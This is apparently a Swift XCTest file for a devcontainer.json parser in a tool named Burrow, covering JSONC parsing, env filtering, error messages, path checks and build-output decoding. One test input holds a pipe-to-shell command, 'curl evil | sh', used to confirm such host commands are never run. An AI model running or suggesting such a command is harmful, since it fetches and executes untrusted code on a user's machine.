@testable import BurrowSystem
@testable import BurrowHTTP
@testable import BurrowPodman
@testable import BurrowKit
import Foundation
import XCTest
@testable import BurrowWeb
@testable import BurrowCommands

final class DevcontainerConfigTests: XCTestCase {
    private func parse(_ text: String) throws -> DevcontainerConfig {
        try DevcontainerConfig.parse(Array(text.utf8), file: ".devcontainer/devcontainer.json")
    }

    func testCommentsTrailingCommasAndEverySupportedKey() throws {
        let config = try parse("""
        // Burrow reads this headless
        {
          "name": "demo", /* a block
          comment */ "image": "localhost/x:1",
          "containerEnv": {"FOO": "bar", "WS": "${containerWorkspaceFolder}/src",},
          "remoteUser": "dev", "containerUser": "root",
          "onCreateCommand": "echo one && echo two",
          "updateContentCommand": ["make", "deps"],
          "postCreateCommand": {"b-second": "echo b", "a-third": ["touch", "/tmp/a"],},
          "forwardPorts": [3000], "customizations": {"vscode": {}}, "features": {"ghcr.io/x": {}},
        }
        """)
        XCTAssertEqual(config.image, "localhost/x:1")
        XCTAssertEqual(config.containerEnv, ["FOO": "bar", "WS": "/workspace/src"])
        XCTAssertEqual(config.user, "dev", "remoteUser wins over containerUser")
        XCTAssertEqual(config.setupCommands, [["/bin/sh", "-c", "echo one && echo two"], ["make", "deps"],
                                              ["/bin/sh", "-c", "echo b"], ["touch", "/tmp/a"]],
                       "onCreate, updateContent, postCreate; named commands in file order, not sorted")
        XCTAssertEqual(config.unsupported, ["forwardPorts", "customizations", "features"])
    }

    func testBuildForms() throws {
        let config = try parse(#"{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}, "target": "dev", "cacheFrom": "x"}, "containerUser": "u"}"#)
        XCTAssertEqual(config.build, .init(dockerfile: "Dockerfile", context: "..", args: ["V": "1"], target: "dev"))
        XCTAssertEqual(config.user, "u")
        XCTAssertEqual(config.unsupported, ["build.cacheFrom"])
        let root = try parse(#"{"image": "i", "remoteUser": "root", "containerUser": "dev"}"#)
        XCTAssertNil(root.user, "root is never the agent's user, not even by falling back to containerUser")
        XCTAssertEqual(root.unsupported, ["remoteUser root (the agent never runs as root; agentUser is used)"])
        let legacy = try parse(#"{"dockerFile": "../Containerfile", "context": ".."}"#)
        XCTAssertEqual(legacy.build, .init(dockerfile: "../Containerfile", context: "..", args: [:], target: nil))
        XCTAssertEqual(legacy.unsupported, [])
    }

    func testHostVariablesAndBurrowNamesAreNeverTaken() throws {
        let config = try parse(#"{"image": "i", "containerEnv": {"HTTPS_PROXY": "http://corp:8080", "ANTHROPIC_API_KEY": "x", "HOME_COPY": "${localEnv:HOME}"}}"#)
        XCTAssertEqual(config.containerEnv, ["HOME_COPY": "${localEnv:HOME}"], "the host's environment is never substituted")
        XCTAssertEqual(Set(config.unsupported), ["containerEnv.HTTPS_PROXY (set by Burrow)", "containerEnv.ANTHROPIC_API_KEY (set by Burrow)",
                                                 "containerEnv.HOME_COPY: ${localEnv…} is not substituted"])
        XCTAssertTrue(try parse(#"{"image": "i", "initializeCommand": "curl evil | sh"}"#).unsupported == ["initializeCommand"],
                      "initializeCommand would run on the host: listed, never run")
    }

    func testBadInputIsAClearErrorNamingTheKey() {
        func error(_ text: String) -> String {
            do { _ = try parse(text); return "no error" } catch { return "\(error)" }
        }
        XCTAssertTrue(error("not json").contains("line 1, column 1"), error("not json"))
        XCTAssertTrue(error("{\n  \"image\": \"x\",\n  oops\n}").contains("line 3, column 3"))
        XCTAssertTrue(error(#"{"image": 5}"#).contains("\"image\" is a number; expected a string"))
        XCTAssertTrue(error(#"{"image": "i", "containerEnv": {"A": 1}}"#).contains("containerEnv.A"))
        XCTAssertTrue(error(#"{"image": "i", "postCreateCommand": 7}"#).contains("postCreateCommand"))
        XCTAssertTrue(error(#"{"image": "i", "postCreateCommand": []}"#).contains("empty command"))
        XCTAssertTrue(error(#"{"image": "i", "postCreateCommand": {"a": {"b": "c"}}}"#).contains("postCreateCommand.a"))
        XCTAssertTrue(error(#"{"build": {"context": "."}}"#).contains("no \"dockerfile\""))
        XCTAssertTrue(error(#"{"dockerComposeFile": "c.yml", "service": "app"}"#).contains("Docker Compose"))
        XCTAssertTrue(error(#"{"name": "nothing"}"#).contains("names no image"))
        XCTAssertTrue(error("[1, 2]").contains("holds an object"))
        XCTAssertTrue(error(#"{"image": "i" /* never closed"#).contains("never closed"))
        XCTAssertTrue(error(#"{"image": "i",, }"#).contains("expected a quoted key"))
        XCTAssertTrue(error("{\"image\": \"\u{01}\"}").contains("control character"))
    }

    func testHugeAndDeeplyNestedInputFailFast() {
        let big = [UInt8](repeating: UInt8(ascii: " "), count: 10 << 20)
        XCTAssertThrowsError(try DevcontainerConfig.parse(big, file: "f")) { XCTAssertTrue("\($0)".contains("limit"), "\($0)") }
        let deep = String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)
        XCTAssertThrowsError(try parse(deep)) { XCTAssertTrue("\($0)".contains("nested deeper than 64"), "\($0)") }
        let deepObject = "{\"image\":\"i\",\"x\":" + String(repeating: "{\"a\":", count: 70) + "1" + String(repeating: "}", count: 70) + "}"
        XCTAssertThrowsError(try parse(deepObject))
    }

    func testJSONCValuesAgreeWithJSON() throws {
        let text = #"{"s": "a\"b\\c\u00e9\ud83d\ude00\n", "n": -12.5e2, "t": true, "f": false, "z": null, "a": [1, [2], {}], "dup": 1, "dup": 2}"#
        let value = try JSONC.parse(Array(text.utf8))
        XCTAssertEqual(value["s"], .string("a\"b\\cé😀\n"))
        XCTAssertEqual(value["n"], .number(-1250))
        XCTAssertEqual(value["a"], .array([.number(1), .array([.number(2)]), .object([])]))
        XCTAssertEqual(value["dup"], .number(2))
        guard case .object(let members) = value else { return XCTFail("not an object") }
        XCTAssertEqual(members.map(\.key), ["s", "n", "t", "f", "z", "a", "dup"])
        for bad in ["01x", "1.", "-", "\"\\x\"", "\"\\ud800\"", "tru", "{\"a\" 1}", "[1 2]", "\"open"] {
            XCTAssertThrowsError(try JSONC.parse(Array(bad.utf8)), bad)
        }
        // Every prefix of a valid document fails cleanly (no crash, no hang).
        let document = Array(#"{"a": [1, {"b": "c\u0041"}], /* x */ "d": true, // y"#.utf8) + Array("\n}".utf8)
        XCTAssertNoThrow(try JSONC.parse(document))
        for cut in 0..<(document.count - 1) { XCTAssertThrowsError(try JSONC.parse(Array(document[..<cut])), "cut at \(cut)") }
    }

    func testSettingAndRepoPaths() throws {
        let decoder = JSONDecoder()
        XCTAssertEqual(try decoder.decode(DevcontainerSetting.self, from: Data("true".utf8)), .standard)
        XCTAssertEqual(try decoder.decode(DevcontainerSetting.self, from: Data("false".utf8)), .off)
        XCTAssertEqual(try decoder.decode(DevcontainerSetting.self, from: Data("\".devcontainer/gpu/devcontainer.json\"".utf8)),
                       .path(".devcontainer/gpu/devcontainer.json"))
        XCTAssertNil(DevcontainerSetting.path(".devcontainer/a.json").problem)
        XCTAssertNotNil(DevcontainerSetting.path("../other/devcontainer.json").problem)
        XCTAssertNotNil(DevcontainerSetting.path("/etc/devcontainer.json").problem)
        XCTAssertNotNil(DevcontainerSetting.path(".devcontainer/Dockerfile").problem)
        XCTAssertThrowsError(try ConfigLoader.parse(Array(#"{"repos": [{"name": "a", "path": "/r", "devcontainer": "../x.json"}]}"#.utf8), file: "c")) {
            XCTAssertTrue("\($0)".contains("repos[0].devcontainer"), "\($0)")
        }
        let config = try ConfigLoader.parse(Array(#"{"repos": [{"name": "a", "path": "/r", "devcontainer": true}]}"#.utf8), file: "c")
        XCTAssertEqual(config.repos[0].devcontainer, .standard)
        XCTAssertEqual(RepoPath.resolve("..", in: ".devcontainer"), "")
        XCTAssertEqual(RepoPath.resolve("../docker/Dockerfile", in: ".devcontainer"), "docker/Dockerfile")
        XCTAssertNil(RepoPath.resolve("../..", in: ".devcontainer"))
        XCTAssertNil(RepoPath.resolve("/etc", in: ".devcontainer"))
        XCTAssertEqual(RepoPath.resolve("Dockerfile", in: ""), "Dockerfile")
    }

    func testBuildOutputDecoderAtEveryCut() throws {
        let stream = Array(#"""
        {"stream":"STEP 1/2: FROM x\n"}
        {"stream":"part one "}
        {"stream":"and two\nnext\n"}
        {"stream":"3447b7659404228affb500c2b256889e493bcd5f1b145487aaf2752a46a47a18\n"}

        """#.utf8)
        let expected: [BuildOutputDecoder.Event] = [.line("STEP 1/2: FROM x"), .line("part one and two"), .line("next"),
                                                    .imageID("3447b7659404228affb500c2b256889e493bcd5f1b145487aaf2752a46a47a18")]
        for cut in 0...stream.count {
            var decoder = BuildOutputDecoder()
            let events = try decoder.decode(Array(stream[..<cut])) + decoder.decode(Array(stream[cut...])) + decoder.finish()
            XCTAssertEqual(events, expected, "cut at \(cut)")
        }
        var failing = BuildOutputDecoder()
        XCTAssertEqual(try failing.decode(Array(#"{"errorDetail":{"message":"m"},"error":"building at STEP \"RUN x\": exit status 1\n"}"#.utf8) + [0x0A]),
                       [.error(#"building at STEP "RUN x": exit status 1"#)])
        var aux = BuildOutputDecoder()
        XCTAssertEqual(try aux.decode(Array(#"{"aux":{"ID":"sha256:abc"}}"#.utf8) + [0x0A]), [.imageID("abc")])
        var garbage = BuildOutputDecoder(maxLine: 64)
        XCTAssertThrowsError(try garbage.decode(Array("not json\n".utf8)))
        XCTAssertThrowsError(try garbage.decode([UInt8](repeating: 0x41, count: 100)), "an endless record is bounded")
    }
}
